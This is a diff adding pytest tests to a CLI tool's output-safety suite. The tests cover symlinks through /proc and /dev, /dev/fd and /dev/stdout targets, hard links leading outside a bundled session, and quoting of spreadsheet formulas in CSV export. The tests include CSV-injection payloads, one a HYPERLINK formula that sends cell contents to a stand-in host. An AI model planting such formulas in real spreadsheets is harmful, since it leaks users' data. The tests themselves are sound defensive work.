@@ -20,7 +20,7 @@ import pytest
 from coldscope.cli.main import main
 from coldscope.store.db import Store
 from coldscope.util.errors import ColdscopeError
-from coldscope.util.safeio import check_output_target
+from coldscope.util.safeio import check_output_target, output_target
 from tests.unit.test_bundle_safety import _session
 from tests.unit.test_export import run as export_run
 from tests.unit.test_trace_export import messy_run
@@ -56,7 +56,8 @@ def _startup_model(t: Path) -> str:
 
 
 def _tune_store(t: Path) -> str:
-    _session(t)  # a tune session beside the store, with caches for `default`
+    if not (t / "tune" / "tune-x").exists():
+        _session(t)  # a tune session beside the store, with caches for `default`
     return str(t / "s.db")
 
 
@@ -133,11 +134,35 @@ def special_file(directory: Path, kind: str) -> Path:
     return out
 
 
-def test_device_nodes_are_refused_by_the_check():
-    # only stat()ed: safe whatever happens
-    with pytest.raises(ColdscopeError, match="cannot write /dev/null: it exists and is a "
-                       "character device, not a regular file"):
-        check_output_target("/dev/null")
+def test_a_device_is_a_target_only_when_named_under_dev(tmp_path):
+    """Issue 31: ``-o /dev/null`` names the device itself and is written in place; a link to it
+    made elsewhere is refused and left as it is. (Only stat()ed here: safe whatever happens.)"""
+    target = output_target("/dev/null")
+    assert (target.in_place, target.path, target.fd) == (True, Path("/dev/null"), None)
+    assert output_target("/dev/stdout").fd == 1
+    link = tmp_path / "null"
+    os.symlink("/dev/null", link)
+    with pytest.raises(ColdscopeError, match=f"cannot write {link}: it is a symbolic link to a "
+                       "character device, not a regular file \\(name the device itself"):
+        check_output_target(link)
+    assert os.readlink(link) == "/dev/null"
+    blocks = [p for p in Path("/dev").iterdir()
+              if not p.is_symlink() and stat.S_ISBLK(os.lstat(p).st_mode)]
+    for device in blocks[:1]:  # a block device is never a target, named or not
+        with pytest.raises(ColdscopeError, match="is a block device"):
+            output_target(device)
+
+
+@pytest.mark.parametrize("name", ["/proc/self/status", "/proc/self/fd/1", "/sys/kernel/mm",
+                                  "/proc/new-file"])
+def test_proc_and_sys_are_never_targets(name):
+    with pytest.raises(ColdscopeError, match=f"cannot write {name}: .*/proc or /sys"):
+        check_output_target(name)
+
+
+def test_a_nul_in_the_target_is_one_line():
+    with pytest.raises(ColdscopeError, match="a path cannot hold a NUL byte"):
+        check_output_target("out\0.csv")
 
 
 @pytest.mark.parametrize("target", ["fifo", "socket", "directory"])
@@ -223,3 +248,185 @@ def test_a_failed_trace_write_leaves_the_old_file_as_it_was(tmp_path, capsys, mo
     assert f"cannot write {out}: Input/output error" in capsys.readouterr().err
     assert out.read_bytes() == b"old trace"
     assert not _leftovers(tmp_path, out.name)
+
+
+# -- issue 31: links, /proc and devices named under /dev -----------------------------------------
+
+
+@pytest.mark.parametrize("command", sorted(COMMANDS))
+def test_a_link_through_proc_is_refused_and_kept(tmp_path, capsys, command):
+    """``-o`` onto a link to ``/proc/self/fd/N`` (here N is a regular file of the test) used to
+    replace the link and lose the output: it is refused before any work, the link stays and
+    the file behind it is not touched."""
+    behind = tmp_path / "behind.txt"
+    behind.write_text("kept")
+    fd = os.open(behind, os.O_WRONLY)
+    link = tmp_path / "out.link"
+    os.symlink(f"/proc/self/fd/{fd}", link)
+    try:
+        argv = COMMANDS[command](tmp_path, str(link))
+        capsys.readouterr()
+        code = main(argv)
+    finally:
+        os.close(fd)
+    err = capsys.readouterr().err
+    assert code == 2, err
+    assert f"cannot write {link}: it is a symbolic link through /proc/self/fd/{fd}" in err
+    assert len(err.strip().splitlines()) == 1 and "Traceback" not in err
+    assert os.readlink(link) == f"/proc/self/fd/{fd}"
+    assert behind.read_text() == "kept"
+    assert not _leftovers(tmp_path, link.name) and not _leftovers(tmp_path, behind.name)
+
+
+@pytest.mark.parametrize("command", ["export", "trace", "report", "bundle", "plan"])
+def test_a_link_to_a_regular_file_is_written_through(tmp_path, capsys, command):
+    """The link stays a link to the same name; the file it names gets the output, exactly what
+    the same command writes to that file named directly."""
+    direct = tmp_path / "direct.out"
+    assert main(COMMANDS[command](tmp_path, str(direct))) == 0, capsys.readouterr().err
+    (tmp_path / "real").mkdir()
+    real = tmp_path / "real" / "file.out"
+    real.write_text("old")
+    link = tmp_path / "out.link"
+    os.symlink("real/file.out", link)
+    assert main(COMMANDS[command](tmp_path, str(link))) == 0, capsys.readouterr().err
+    assert os.readlink(link) == "real/file.out"
+    assert real.stat().st_size > 0 and real.read_bytes() != b"old"
+    if command in ("export", "plan"):  # the same bytes (the others stamp a time)
+        assert real.read_bytes() == direct.read_bytes()
+    assert not _leftovers(tmp_path / "real", real.name) and not _leftovers(tmp_path, link.name)
+    # a link to no file yet, in an existing directory: the file is made there
+    real.unlink()
+    assert main(COMMANDS[command](tmp_path, str(link))) == 0, capsys.readouterr().err
+    assert link.is_symlink() and real.is_file() and real.stat().st_size > 0
+
+
+def test_dev_fd_writes_into_the_pipe_it_names(tmp_path, capsys):
+    """``-o /dev/fd/N`` names this process's descriptor N (a pipe here): the CSV arrives on
+    the pipe, byte for byte what the same export writes to a file."""
+    direct = tmp_path / "direct.csv"
+    assert main(COMMANDS["export"](tmp_path, str(direct))) == 0
+    r, w = os.pipe()
+    got = bytearray()
+    reader = threading.Thread(target=lambda: got.extend(_read_all(r)), daemon=True)
+    reader.start()
+    try:
+        code = main(COMMANDS["export"](tmp_path, f"/dev/fd/{w}"))
+    finally:
+        os.close(w)
+    reader.join(10)
+    os.close(r)
+    assert code == 0, capsys.readouterr().err
+    assert bytes(got) == direct.read_bytes()
+
+
+def _read_all(fd: int) -> bytes:
+    out = bytearray()
+    while chunk := os.read(fd, 65536):
+        out += chunk
+    return bytes(out)
+
+
+def test_dev_stdout_gets_the_output_and_the_summary_goes_to_stderr(tmp_path):
+    """``coldscope export -o /dev/stdout`` in a process whose stdout is a pipe: stdout is the
+    CSV alone (the same bytes as the file export), the "wrote" line is on stderr."""
+    import subprocess
+    import sys
+
+    direct = tmp_path / "direct.csv"
+    assert main(COMMANDS["export"](tmp_path, str(direct))) == 0
+    before = os.lstat("/dev/stdout")
+    done = subprocess.run(
+        [sys.executable, "-c", "import sys; from coldscope.cli.main import main; "
+         "sys.exit(main(sys.argv[1:]))", *COMMANDS["export"](tmp_path, "/dev/stdout")],
+        capture_output=True, timeout=120, check=False)
+    assert done.returncode == 0, done.stderr
+    assert done.stdout == direct.read_bytes()
+    assert b"wrote 2 runs to /dev/stdout" in done.stderr
+    after = os.lstat("/dev/stdout")
+    assert (after.st_ino, after.st_mode) == (before.st_ino, before.st_mode)  # never renamed
+
+
+# -- issue 31: CSV cells a spreadsheet would run ---------------------------------------------
+
+
+FORMULAS = ['=HYPERLINK("http://example.invalid/?"&A1,"click")', "+1+2", "-3+4", "@SUM(A1)",
+            "\tleading tab", "\rleading cr"]
+
+
+@pytest.mark.parametrize("label", FORMULAS)
+def test_a_formula_label_is_exported_as_text(tmp_path, capsys, label):
+    """OWASP's rule: a text cell that starts with = + - @ tab or CR gets a single quote before
+    it; numbers stay numbers; Parquet keeps the value as it is."""
+    import csv
+
+    import pyarrow.parquet as pq
+
+    store = tmp_path / "s.db"
+    with Store(store) as s:
+        s.add_run(export_run("f1", label=label, reason="-x"))
+    out = tmp_path / "runs.csv"
+    assert main(["export", "-o", str(out), "--store", str(store)]) == 0, capsys.readouterr().err
+    with out.open(newline="", encoding="utf-8") as f:
+        (row,) = list(csv.DictReader(f))
+    assert row["label"] == "'" + label
+    assert row["reason"] == "'-x"
+    assert row["id"] == "f1" and row["time_to_ready_s"] == "10.0"
+    assert row["findings_count"] == "0"
+    parquet = tmp_path / "runs.parquet"
+    assert main(["export", "-o", str(parquet), "--store", str(store)]) == 0
+    assert pq.read_table(parquet).column("label").to_pylist() == [label]
+
+
+def test_report_csv_links_quote_formulas_and_keep_numbers():
+    from coldscope.report.markup import to_csv
+
+    text = to_csv([{"label": "=1+1", "seconds": -1.5, "n": -2, "ok": True, "plain": "a-b"}])
+    assert text.splitlines() == ["label,seconds,n,ok,plain", "'=1+1,-1.5,-2,True,a-b"]
+
+
+# -- issue 31: bundle packs the session's own files only -------------------------------------
+
+
+def test_bundle_refuses_a_hard_link_to_a_file_outside_the_session(tmp_path, capsys):
+    session = _session(tmp_path)
+    secret = tmp_path / "elsewhere" / "secret"
+    os.link(secret, session / "caches" / "default" / "vllm" / "stolen")
+    out = tmp_path / "b.tar.gz"
+    code = main(COMMANDS["bundle"](tmp_path, str(out)))
+    err = capsys.readouterr().err
+    assert code == 2, err
+    assert ("cannot pack vllm/stolen: it is a hard link to a file outside "
+            f"{session} (2 links, 1 inside)") in err
+    assert len(err.strip().splitlines()) == 1
+    assert not out.exists() and not _leftovers(tmp_path, out.name)
+
+
+def test_bundle_packs_hard_links_within_the_session(tmp_path, capsys):
+    """Links between the session's own files (here one configuration's cache and another's)
+    are the session's content: packed, as the file's bytes."""
+    import tarfile
+
+    session = _session(tmp_path)
+    (session / "caches" / "other").mkdir()
+    os.link(session / "caches" / "default" / "vllm" / "x", session / "caches" / "other" / "x")
+    out = tmp_path / "b.tar.gz"
+    assert main(COMMANDS["bundle"](tmp_path, str(out))) == 0, capsys.readouterr().err
+    with tarfile.open(out) as tar:
+        assert tar.getnames() == ["manifest.json", "caches/vllm/x"]
+        assert tar.extractfile("caches/vllm/x").read() == b"compiled"
+
+
+def test_bundle_refuses_caches_that_resolve_outside_the_session(tmp_path, capsys):
+    session = _session(tmp_path)
+    caches = session / "caches"
+    moved = tmp_path / "moved-caches"
+    caches.rename(moved)
+    os.symlink(moved, caches)  # the session's caches/ itself a link leading out
+    out = tmp_path / "b.tar.gz"
+    code = main(COMMANDS["bundle"](tmp_path, str(out)))
+    err = capsys.readouterr().err
+    assert code == 2, err
+    assert "resolve to" in err and "outside session tune-x" in err
+    assert not out.exists()
+
